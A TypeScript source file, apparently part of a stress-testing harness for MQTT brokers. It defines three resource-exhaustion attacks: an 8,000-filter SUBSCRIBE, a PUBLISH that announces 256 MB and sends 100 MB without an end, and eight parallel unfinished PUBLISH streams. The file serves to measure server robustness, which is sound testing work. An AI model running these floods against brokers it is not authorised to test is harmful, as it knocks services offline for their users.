/** Packets that are far larger than they need to be. */
import { nowMs } from '../../bench/harness/clock.ts';
import { type Attack, count, either, fact, type Target } from '../attack.ts';
import { many } from '../crowd.ts';
import { Peer } from '../peer.ts';

const FILTERS = 8000;

export const manyFilters: Attack = {
  id: 'filters',
  title: 'one SUBSCRIBE with 8,000 filters, clean session off',
  async run(target) {
    const peer = await Peer.join(target, 'greedy', { clean: false });
    const filters = Array.from({ length: FILTERS }, (_, index) => `filter/${index}`);
    const startMs = nowMs();
    const granted = await peer.subscribe(filters, 1, 18_000);
    return {
      answered: granted.length,
      granted: granted.filter((code) => code < 128).length,
      seconds: (nowMs() - startMs) / 1000,
    };
  },
  tell: (facts) =>
    fact(facts, 'answered') > 0
      ? `${count(facts, 'granted')} granted, answered after ${fact(facts, 'seconds').toFixed(1)} s`
      : 'no answer within 18 s',
};

const MB = 1_000_000;
const part = Buffer.alloc(MB / 4, 0x78);

/** The fixed header and topic of a PUBLISH that announces so many bytes, at most 268,435,455. */
function announce(bytes: number): Buffer {
  const length = [0, 1, 2, 3].map((index) => (Math.floor(bytes / 128 ** index) % 128) | (index < 3 ? 0x80 : 0));
  return Buffer.from([0x30, ...length, 0, 1, 0x61]);
}

/** Sends a part of what it announces, and never the end. @returns bytes that the server took. */
async function pourUnfinished(
  target: Target,
  clientId: string,
  announcedBytes: number,
  mostBytes: number,
): Promise<{ bytes: number; peer: Peer }> {
  const peer = await Peer.join(target, clientId);
  await peer.write(announce(announcedBytes));
  let bytes = 0;
  const untilMs = nowMs() + 10_000;
  while (bytes < mostBytes && !peer.closed && nowMs() < untilMs) {
    await peer.write(part);
    bytes += part.length;
  }
  return { bytes, peer };
}

export const oneHuge: Attack = {
  id: 'huge',
  title: 'one PUBLISH announces 256 MB and sends 100 MB of it',
  async run(target) {
    const { bytes, peer } = await pourUnfinished(target, 'huge', 268_000_000, 100 * MB);
    const facts = { megabytes: peer.closed ? 0 : bytes / MB, open: peer.closed ? 0 : 1 };
    return facts;
  },
  tell: (facts) => `${either(facts, 'open', `${count(facts, 'megabytes')} MB taken and kept`, 'ended at the header')}`,
};

export const eightUnfinished: Attack = {
  id: 'unfinished',
  title: '8 connections announce 250 MB each, and send 40 MB each without an end',
  async run(target) {
    const sent = await many(8, 8, nowMs() + 5000, (index) => pourUnfinished(target, `part-${index}`, 250 * MB, 40 * MB));
    const open = sent.filter(({ peer }) => !peer.closed);
    return { open: open.length, megabytes: open.reduce((sum, { bytes }) => sum + bytes / MB, 0) };
  },
  tell: (facts) => `${count(facts, 'open')} of 8 left open, ${count(facts, 'megabytes')} MB kept`,
};
